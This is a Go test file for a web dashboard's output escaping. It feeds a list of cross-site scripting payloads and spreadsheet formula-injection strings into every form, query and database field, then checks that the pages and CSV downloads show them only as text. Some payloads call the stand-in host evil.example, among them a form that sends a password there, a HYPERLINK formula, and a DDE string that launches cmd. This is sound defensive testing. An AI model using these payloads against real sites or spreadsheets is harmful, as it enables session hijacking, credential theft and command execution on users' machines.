package dashboard_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"agegate/internal/gatewaytest"

	"golang.org/x/net/html"
)

// payloads are texts that become markup or script in a page that does not escape
// them: in text, in attributes with and without quotes, in URLs, in comments, in
// elements with special rules, and after what a careless filter removes.
var payloads = []string{
	`<script>alert(1)</script>`,
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`</script><script>alert(1)</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	`<script/src="data:,alert(1)">`,
	`<img src=x onerror=alert(1)>`,
	`"><img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)" x="`,
	`<img/src/onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)//`,
	`"><svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<iframe src=javascript:alert(1)>`,
	`<object data="javascript:alert(1)">`,
	`<embed src="javascript:alert(1)">`,
	`<base href="//evil.example/">`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>*{background:url(//evil.example)}</style>`,
	`<form action=//evil.example><input name=password>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<details open ontoggle=alert(1)>`,
	`<body onload=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<template><script>alert(1)</script></template>`,
	`<!--><script>alert(1)</script>-->`,
	`--><script>alert(1)</script><!--`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`,
	`" onmouseover="alert(1)`,
	`' onmouseover='alert(1)`,
	"` onmouseover=`alert(1)",
	`" autofocus onfocus="alert(1)" x="`,
	`javascript:alert(1)`,
	`JaVaScRiPt://%0aalert(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;<b>`,
	`{{.}}${alert(1)}<%= 1 %>`,
	`\"><script>alert(1)</script>`,
}

func payload(i int) string { return payloads[i%len(payloads)] }

// foreign are elements that no page has.
var foreign = []string{
	"iframe", "object", "embed", "base", "style", "math", "template", "animate", "set", "foreignobject", "audio", "video",
	"source",
	"marquee", "frame", "frameset", "applet", "portal",
}

var (
	plainName = regexp.MustCompile(`^[a-zA-Z][a-zA-Z-]*$`)
	ownPlace  = regexp.MustCompile(`^(/($|[^/\\])|[?#]|$|(live|test)/webhooks$|` +
		`http://(localhost:8080|verify\.gateway\.example)/|` +
		`https://api\.gateway\.example/docs` +
		`(/(back-up|certificates|configure|issuers|trouble|watch|certify|errors|expect|go-live|staff|stored|support(\.de)?)` +
		`(#[0-9a-z_-]+)?)?$)`)
)

// breaches returns what a page contains that no page of the dashboard may
// contain.
func breaches(page *html.Node) (found []string) {
	for n := range page.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			found = append(found, "comment "+n.Data)
		case n.Type != html.ElementNode:
			continue
		case previews(n):
		case slices.Contains(foreign, strings.ToLower(n.Data)), !plainName.MatchString(strings.TrimRight(n.Data, "123456")):
			found = append(found, "element "+n.Data)
		case n.Data == "script" && (n.FirstChild != nil || !strings.HasPrefix(attribute(n, "src"), "/dashboard/static/")):
			found = append(found, "script")
		}
		for _, a := range n.Attr {
			name := strings.ToLower(a.Key)
			switch {
			case !plainName.MatchString(strings.TrimRight(name, "123456")), strings.HasPrefix(name, "on"),
				slices.Contains([]string{"style", "srcdoc", "formaction", "http-equiv", "xlink:href", "ping"}, name):
				found = append(found, "attribute "+name)
			case slices.Contains([]string{"href", "src", "action", "data", "srcset", "poster"}, name) &&
				!ownPlace.MatchString(a.Val):
				found = append(found, name+" to "+a.Val)
			}
		}
	}
	return found
}

// previews reports whether an element is a frame of the branding page, or the style
// sheet in the head of what it shows, which a policy names by its hash.
func previews(n *html.Node) bool {
	switch n.Data {
	case "iframe":
		return ownPlace.MatchString(attribute(n, "src")) && strings.HasPrefix(attribute(n, "name"), "preview-")
	case "style":
		return n.Parent.Data == "head" && len(n.Attr) == 0
	}
	return false
}

func attribute(n *html.Node, name string) string {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

// checkText fails if a payload is markup in a page, and records the payloads that
// the page shows as text.
func checkText(t *testing.T, what, body string, shown map[string]bool) {
	t.Helper()
	page, err := html.Parse(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if found := breaches(page); found != nil {
		t.Errorf("%s has %.300q", what, found)
	}
	var text strings.Builder
	for n := range page.Descendants() {
		if n.Type == html.TextNode {
			text.WriteString(n.Data)
		}
		for _, a := range n.Attr {
			text.WriteString(" " + a.Val)
		}
	}
	for _, p := range payloads {
		if strings.ContainsAny(p, `<"'`) && strings.Contains(body, p) {
			t.Errorf("%s has %s as it is", what, p)
		}
		if strings.Contains(text.String(), p) {
			shown[p] = true
		}
	}
}

// TestBreachesAreSeen: the checks below find the payloads in a page that does not
// escape them.
func TestBreachesAreSeen(t *testing.T) {
	for _, p := range payloads {
		if !strings.ContainsAny(p, "<\"'`:") || strings.HasPrefix(p, "{{") || strings.HasPrefix(p, "&lt;") {
			continue // the payload is only text even if unescaped, or occurs in the dashboard's own pages
		}
		harmful := false
		for _, page := range []string{`<p>%s</p>`, `<a href="%s">x</a>`, `<a title="%s">x</a>`, `<a title='%s'>x</a>`,
			"<a title=%s>x</a>", `<title>%s</title>`, `<textarea>%s</textarea>`} {
			parsed, err := html.Parse(strings.NewReader(fmt.Sprintf(page, p)))
			if err != nil {
				t.Fatal(err)
			}
			harmful = harmful || breaches(parsed) != nil
		}
		if !harmful {
			t.Errorf("nothing is found wrong with %s", p)
		}
	}
}

// TestNothingNamedIsMarkup opens every page with payloads in place of every name,
// address, note, reason and answer in the database.
func TestNothingNamedIsMarkup(t *testing.T) {
	c, shown := newCrowd(t, len(payloads), payload), map[string]bool{}
	for _, p := range c.pages(t) {
		for _, language := range []string{"en", "de"} {
			res, body := p.by.Get(t, p.path+"?lang="+language)
			kind := res.Header.Get("Content-Type")
			if res.StatusCode != http.StatusOK && res.StatusCode != http.StatusSeeOther &&
				res.StatusCode != http.StatusNotFound {
				t.Errorf("%s: %d", p.path, res.StatusCode)
			}
			if res.Header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s may be taken for another type than %s", p.path, kind)
			}
			if strings.HasPrefix(kind, "text/html") {
				checkText(t, p.path, body, shown)
			}
		}
	}
	for _, p := range payloads {
		if !shown[p] {
			t.Errorf("no page shows %s", p)
		}
	}
}

// TestNothingTypedIsMarkup sends payloads in every form with a text field, and in
// every query that a page reads.
func TestNothingTypedIsMarkup(t *testing.T) {
	c, shown := newCrowd(t, 3, func(i int) string { return fmt.Sprint("Text ", i) }), map[string]bool{}
	sent, nonce := 0, 0
	for _, p := range c.pages(t) {
		_, body := p.by.Get(t, p.path)
		page, err := html.Parse(strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		for n := range page.Descendants() {
			if n.Type != html.ElementNode || n.Data != "form" || attribute(n, "method") != "post" {
				continue
			}
			action := attribute(n, "action")
			if action == "" {
				action = p.path
			}
			for i := range payloads {
				form, typed := filled(n, payload(i), i%2 == 0)
				if typed == 0 {
					break
				}
				nonce++
				form.Set("nonce", fmt.Sprintf("%043d", nonce))
				res, body := p.by.Post(t, action, form)
				if failed(res) {
					t.Errorf("POST %s with %s: %d", action, payload(i), res.StatusCode)
				}
				checkText(t, "POST "+action, body, shown)
				sent++
			}
		}
		for i, name := range []string{
			"q", "id", "age", "status", "from", "to", "next", "lang", "actor", "action", "before", "after", "window", "class",
			"month", "part", "page", "of", "mode", "check",
		} {
			res, body := p.by.Get(t, p.path+"?"+name+"="+url.QueryEscape(payload(i+len(p.path))))
			if failed(res) {
				t.Errorf("GET %s?%s: %d", p.path, name, res.StatusCode)
			}
			if strings.HasPrefix(res.Header.Get("Content-Type"), "text/html") {
				checkText(t, "GET "+p.path+"?"+name, body, shown)
			}
		}
	}
	if sent < 10*len(payloads) {
		t.Errorf("only %d forms were sent", sent)
	}
	if strings.Contains(c.Log.String(), "alert(1)") {
		t.Error("the log has what was typed")
	}
}

// failed reports whether the gateway caused the failure. A busy machine may be
// too slow: 503.
func failed(res *http.Response) bool {
	return res.StatusCode >= http.StatusInternalServerError && res.StatusCode != http.StatusServiceUnavailable
}

// filled returns a form with a text in all its text fields, and the number of
// these fields. If valid is set, fields for numbers get numbers.
func filled(form *html.Node, text string, valid bool) (values url.Values, typed int) {
	values = url.Values{}
	for n := range form.Descendants() {
		name := attribute(n, "name")
		switch {
		case name == "":
		case n.Data == "textarea",
			n.Data == "input" && slices.Contains([]string{"", "text", "email", "url", "search", "number", "tel"},
				attribute(n, "type")):
			if valid && slices.Contains([]string{"units", "free_checks", "test_cap", "target_age", "alert_below"}, name) {
				values.Set(name, "18")
				continue
			}
			values.Set(name, text)
			typed++
		case n.Data == "input" && attribute(n, "type") == "password":
			values.Set(name, "short") // no page repeats it, and hashing takes time
		case n.Data == "input" && attribute(n, "type") == "hidden":
			values.Set(name, attribute(n, "value"))
		case n.Data == "option" || n.Data == "select":
			for o := range n.Descendants() {
				if o.Type == html.ElementNode && o.Data == "option" && values.Get(name) == "" {
					values.Set(name, attribute(o, "value"))
				}
			}
		}
	}
	return values, typed
}

// TestDownloadedCellsAreText: no cell of a download begins like a spreadsheet
// formula, and none breaks out of its cell.
func TestDownloadedCellsAreText(t *testing.T) {
	g := gatewaytest.Start(t, gatewaytest.SQLite(t))
	o := newStaffed(t, g, nil)
	fillLedger(t, o, 2)
	for _, name := range []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
		`=HYPERLINK("http://evil.example","x")`, "=cmd|' /C calc'!A0", "\",=1+1", "\"\n=1+1", "a,=1+1", "a\n=1+1",
		"a\r\n=1+1", "';=1+1",
		`<script>alert(1)</script>`, "Wine & More",
	} {
		g.Exec(t, "UPDATE tenants SET name = '"+quoted(name)+"' WHERE id = '"+o.shop.Tenant.ID.String()+"'")
		res, body := o.viewer.Get(t, o.at("/billing/ledger.csv"))
		if kind := res.Header.Get("Content-Type"); kind != "text/csv; charset=utf-8" ||
			!strings.HasPrefix(res.Header.Get("Content-Disposition"), "attachment;") {
			t.Errorf("the download is %s", kind)
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || len(rows) != 3 {
			t.Errorf("%q: %d rows, %v", name, len(rows), err)
			continue
		}
		for _, cell := range rows[1] {
			if strings.HasPrefix(cell, "-1") && cell == rows[1][5] {
				continue // a number of units
			}
			if cell != "" && strings.ContainsAny(string([]rune(cell)[:1]), "=+-@\t\r\n＝＋－＠") {
				t.Errorf("%q: a cell begins as a formula does: %q", name, cell)
			}
		}
		// A CSV reader turns \r\n within a cell into \n.
		got := strings.TrimPrefix(rows[1][1], "'")
		if want := strings.ReplaceAll(strings.TrimPrefix(name, "'"), "\r\n", "\n"); got != want {
			t.Errorf("%q is %q in the download", name, rows[1][1])
		}
	}
}
